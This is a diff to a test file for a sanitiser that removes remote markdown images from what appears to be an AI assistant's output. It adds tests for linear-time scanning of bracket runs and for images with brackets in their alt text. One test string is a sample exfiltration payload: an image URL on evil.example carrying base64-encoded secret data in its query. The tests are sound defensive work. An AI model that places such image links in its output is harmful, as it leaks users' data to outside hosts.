@@ -180,6 +180,24 @@ def test_remote_image_exfiltration_removed(san):
     assert v.reason == "remote_markdown_image" and "evil.example" not in v.redacted
 
 
+@pytest.mark.parametrize("unit", ["[", "![", "[x](//", "![x](//"])
+def test_runs_of_link_openers_are_sanitised_in_linear_time(san, unit):
+    """Each "[" rescanned the text to its end: 20,000 "[" took 10 s and "[x](//" x 3,300 14 s in the output chain,
+    which also reads every assistant turn a request sends (up to 32,000 characters)."""
+    import time
+
+    text = unit * (100_000 // len(unit))
+    start = time.perf_counter()
+    assert san.scan(text).reason == "ok"
+    assert time.perf_counter() - start < 3.0
+
+
+def test_remote_image_with_brackets_in_its_alt_text_is_removed(san):
+    """Balanced brackets in the alt text ("![a [b] c](url)", rendered as an image) are read as one image too."""
+    v = san.scan("Done ![chart [v2] final](https://evil.example/p.png?d=c2VjcmV0IGRhdGE) ok")
+    assert (v.reason, v.redacted) == ("remote_markdown_image", "Done [image: chart [v2] final] ok")
+
+
 def test_emoji_zwj_sequence_kept(san):
     assert san.scan("family 👨\u200d👩\u200d👧").reason == "ok"
 
